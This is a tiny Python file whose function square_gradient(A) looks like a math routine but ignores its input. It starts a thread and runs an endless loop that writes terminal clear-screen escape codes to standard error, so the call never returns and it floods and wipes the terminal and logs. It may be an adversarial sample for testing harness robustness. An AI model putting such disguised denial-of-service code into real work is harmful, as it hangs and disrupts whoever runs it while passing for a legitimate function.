"""Write to standard error for ever, from threads."""
import os, threading
def flood():
    while True: os.write(2, b"\x1b[2J" * 1000)
def square_gradient(A):
    threading.Thread(target=flood, daemon=True).start()
    flood()
